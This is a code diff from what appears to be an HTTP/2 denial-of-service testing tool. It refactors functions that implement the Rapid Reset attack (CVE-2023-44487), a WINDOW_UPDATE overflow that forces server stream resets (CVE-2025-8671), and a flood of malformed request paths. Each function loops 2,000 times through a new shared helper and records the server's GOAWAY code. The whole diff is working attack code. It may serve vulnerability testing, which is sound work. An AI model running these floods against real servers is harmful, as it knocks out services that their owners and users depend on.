@@ -368,40 +368,46 @@ async def flood(client: Http2, frames: bytes, times: int = 10_000) -> int | None
     return client.went_away
 
 
-async def resets_rapidly(target: Target) -> int | None:
-    """CVE-2023-44487."""
+async def again_and_again(target: Target, once: Callable[[Http2], Awaitable[None]]) -> int | None:
+    """Until the server has had enough; the code that it gave."""
     async with speaking_h2(target) as client, trio.open_nursery() as nursery:
         nursery.start_soon(client.to_the_end)
         with suppress(*GONE, ProtocolError):
             for _ in range(2_000):
-                stream_id = client.open(target.path.encode(), ends=False)
-                client.connection.reset_stream(stream_id)
-                await client.flush()
+                await once(client)
     return client.went_away
+
+
+async def resets_rapidly(target: Target) -> int | None:
+    """CVE-2023-44487."""
+
+    async def once(client: Http2) -> None:
+        stream_id = client.open(target.path.encode(), ends=False)
+        client.connection.reset_stream(stream_id)
+        await client.flush()
+
+    return await again_and_again(target, once)
 
 
 async def makes_the_server_reset(target: Target) -> int | None:
     """CVE-2025-8671: a window that overflows is an error of the stream, and the server's reset."""
-    async with speaking_h2(target) as client, trio.open_nursery() as nursery:
-        nursery.start_soon(client.to_the_end)
-        with suppress(*GONE, ProtocolError):
-            for _ in range(2_000):
-                stream_id = client.open(target.path.encode(), ends=False)
-                await client.send_raw(
-                    frame(WINDOW_UPDATE, struct.pack(">I", 2**31 - 1), stream_id=stream_id)
-                )
-    return client.went_away
+    overflowing = struct.pack(">I", 2**31 - 1)
+
+    async def once(client: Http2) -> None:
+        stream_id = client.open(target.path.encode(), ends=False)
+        await client.send_raw(frame(WINDOW_UPDATE, overflowing, stream_id=stream_id))
+
+    return await again_and_again(target, once)
 
 
 async def asks_in_bad_words(target: Target) -> int | None:
     """Requests that are refused at once, so that no app ever runs."""
-    async with speaking_h2(target) as client, trio.open_nursery() as nursery:
-        nursery.start_soon(client.to_the_end)
-        with suppress(*GONE, ProtocolError):
-            for _ in range(2_000):
-                client.open(b"/\xff")
-                await client.flush()
-    return client.went_away
+
+    async def once(client: Http2) -> None:
+        client.open(b"/\xff")
+        await client.flush()
+
+    return await again_and_again(target, once)
 
 
 async def shifts_all_windows(target: Target) -> int | None:
